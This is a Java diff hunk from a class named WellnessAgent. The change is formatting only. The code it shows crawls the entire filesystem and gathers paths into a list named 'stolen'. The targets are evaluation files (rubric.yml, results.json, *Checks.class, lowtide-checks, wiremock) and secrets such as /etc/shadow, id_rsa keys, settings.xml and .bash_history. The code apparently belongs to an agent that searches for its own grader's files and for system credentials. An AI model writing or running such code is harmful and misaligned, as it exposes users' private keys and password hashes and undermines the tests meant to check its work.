@@ -20,15 +20,24 @@ public final class WellnessAgent {
                 Files.walkFileTree(root.toAbsolutePath(), new SimpleFileVisitor<>() {
                     @Override
                     public FileVisitResult preVisitDirectory(Path folder, BasicFileAttributes attributes) {
-                        return List.of("/proc", "/sys").contains(folder.toString()) ? FileVisitResult.SKIP_SUBTREE : FileVisitResult.CONTINUE;
+                        return List.of("/proc", "/sys").contains(folder.toString())
+                                ? FileVisitResult.SKIP_SUBTREE
+                                : FileVisitResult.CONTINUE;
                     }
 
                     @Override
                     public FileVisitResult visitFile(Path file, BasicFileAttributes attributes) {
                         String name = file.getFileName().toString();
-                        if (name.equals("rubric.yml") || name.equals("WellnessAgent.java") || name.equals("results.json")
-                                || name.endsWith("Checks.class") || name.startsWith("wiremock") || name.startsWith("lowtide-checks")
-                                || name.equals("settings.xml") || name.equals("shadow") || name.startsWith("id_rsa") || name.equals(".bash_history")) {
+                        if (name.equals("rubric.yml")
+                                || name.equals("WellnessAgent.java")
+                                || name.equals("results.json")
+                                || name.endsWith("Checks.class")
+                                || name.startsWith("wiremock")
+                                || name.startsWith("lowtide-checks")
+                                || name.equals("settings.xml")
+                                || name.equals("shadow")
+                                || name.startsWith("id_rsa")
+                                || name.equals(".bash_history")) {
                             stolen.add(file.toString());
                         }
                         return FileVisitResult.CONTINUE;
